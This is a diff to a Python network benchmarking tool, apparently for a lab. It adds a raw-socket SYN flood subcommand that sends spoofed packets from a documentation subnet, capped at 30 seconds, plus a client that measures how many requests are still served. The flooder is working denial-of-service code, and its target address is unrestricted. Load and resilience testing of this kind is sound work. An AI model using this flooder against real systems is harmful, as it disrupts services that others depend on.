@@ -12,6 +12,10 @@ Standard library only; each is bounded in time and count and exits by itself.
     latency  (client) N sequential HTTP requests, each on a new connection;
                       per-request times (connect to end of response).
     curls    (client) P curl downloads or uploads at once; wall time and bytes.
+    synflood (client) spoofed SYNs (sources inside 198.51.100.0/24 only) at a
+                      rate or as fast as one raw socket goes, for some seconds.
+    legit    (client) one HTTP request on a new connection every interval,
+                      each in a thread; how many were served, how fast.
 
 Every command prints one JSON object (``connect`` prints progress lines
 first) on stdout.
@@ -386,6 +390,109 @@ def cmd_curls(args: argparse.Namespace) -> int:
     return 1 if errors else 0
 
 
+# -- synflood and legit ----------------------------------------------------------
+
+
+def _checksum(data: bytes) -> int:
+    if len(data) % 2:
+        data += b"\0"
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def cmd_synflood(args: argparse.Namespace) -> int:
+    """Prebuilt SYNs with Linux's options (timestamps on) from spoofed sources of the lab's client subnet."""
+    import random
+
+    first, last = args.sources.split("-")
+    first, last = int(first), int(last)
+    if not 3 <= first <= last <= 254:
+        raise SystemExit("synflood: sources must be inside 198.51.100.3-254 (the lab's client subnet)")
+    seconds = min(args.seconds, 30.0)
+    rng = random.Random(args.seed)
+    dst = socket.inet_aton(args.dst)
+    sources = [socket.inet_aton(f"198.51.100.{i}") for i in range(first, last + 1)]
+    packets = []
+    for i in range(1 << 14):
+        src = sources[i % len(sources)]
+        options = struct.pack("!BBHBBBBIIBBBB", 2, 4, 1460, 4, 2, 8, 10, rng.getrandbits(32), 0, 1, 3, 3, 7)
+        tcp = struct.pack("!HHIIBBHHH", 1024 + rng.randrange(64000), args.port, rng.getrandbits(32), 0,
+                          (20 + len(options)) // 4 << 4, 0x02, 64240, 0, 0) + options
+        tcp = tcp[:16] + struct.pack("!H", _checksum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)) + tcp[18:]
+        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i & 0xFFFF, 0x4000, 64, 6, 0, src, dst)
+        packets.append(ip + tcp)
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    sendto, addr, sent, errors = s.sendto, (args.dst, 0), 0, 0
+    t0 = time.monotonic()
+    deadline = t0 + seconds
+    while time.monotonic() < deadline:
+        for i in range(0, len(packets), 1024):
+            for p in packets[i:i + 1024]:
+                try:
+                    sendto(p, addr)
+                except OSError:
+                    errors += 1
+            sent += 1024
+            if args.rate:
+                ahead = t0 + sent / args.rate - time.monotonic()
+                if ahead > 0:
+                    time.sleep(ahead)
+            if time.monotonic() >= deadline:
+                break
+    elapsed = time.monotonic() - t0
+    emit({"sent": sent, "errors": errors, "seconds": elapsed, "rate": sent / elapsed})
+    return 0
+
+
+def cmd_legit(args: argparse.Namespace) -> int:
+    """A request on a new connection every ``interval`` s for ``seconds``, each given ``timeout`` s."""
+    deadline_guard(args.seconds + args.timeout + 10)
+    host, port = args.target.rsplit(":", 1)
+    target = (host, int(port))
+    request = (f"GET / HTTP/1.1\r\nHost: {args.host}\r\nUser-Agent: kracauer-bench\r\n"
+               "Connection: close\r\n\r\n").encode()
+    results: list[float | None] = []
+    lock = threading.Lock()
+
+    def attempt() -> None:
+        t0 = time.monotonic()
+        took = None
+        try:
+            with socket.create_connection(target, timeout=args.timeout) as s:
+                s.settimeout(max(args.timeout - (time.monotonic() - t0), 0.1))
+                s.sendall(request)
+                got = b""
+                while True:
+                    chunk = s.recv(65536)
+                    if not chunk:
+                        break
+                    got += chunk
+            if got.startswith(b"HTTP/1.1 200"):
+                took = time.monotonic() - t0
+        except OSError:
+            pass
+        with lock:
+            results.append(took)
+
+    threads = []
+    t0 = time.monotonic()
+    while time.monotonic() - t0 < args.seconds:
+        t = threading.Thread(target=attempt, daemon=True)
+        t.start()
+        threads.append(t)
+        time.sleep(args.interval)
+    for t in threads:
+        t.join(args.timeout + 5)
+    ok = sorted(r for r in results if r is not None)
+    emit({"attempts": len(threads), "served": len(ok),
+          "served_pct": 100.0 * len(ok) / len(threads) if threads else 0.0,
+          "p50_ms": percentile([x * 1e3 for x in ok], 50) if ok else None,
+          "max_ms": ok[-1] * 1e3 if ok else None})
+    return 0
+
+
 def main(argv: list[str] | None = None) -> int:
     parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
     sub = parser.add_subparsers(dest="cmd", required=True)
@@ -425,9 +532,24 @@ def main(argv: list[str] | None = None) -> int:
     p.add_argument("--upload", help="file to PUT (else GET to /dev/null)")
     p.add_argument("--max-time", type=float, default=120)
 
+    p = sub.add_parser("synflood")
+    p.add_argument("--dst", required=True)
+    p.add_argument("--port", type=int, required=True)
+    p.add_argument("--seconds", type=float, default=5)
+    p.add_argument("--rate", type=float, default=0.0, help="SYNs a second; 0: unpaced")
+    p.add_argument("--sources", default="100-254", help="last octets of the spoofed 198.51.100.x sources")
+    p.add_argument("--seed", type=int, default=1)
+
+    p = sub.add_parser("legit")
+    p.add_argument("--target", required=True)
+    p.add_argument("--host", required=True)
+    p.add_argument("--seconds", type=float, default=5)
+    p.add_argument("--interval", type=float, default=0.05)
+    p.add_argument("--timeout", type=float, default=5)
+
     args = parser.parse_args(argv)
     return {"sink": cmd_sink, "holder": cmd_holder, "connect": cmd_connect, "latency": cmd_latency,
-            "curls": cmd_curls}[args.cmd](args)
+            "curls": cmd_curls, "synflood": cmd_synflood, "legit": cmd_legit}[args.cmd](args)
 
 
 if __name__ == "__main__":
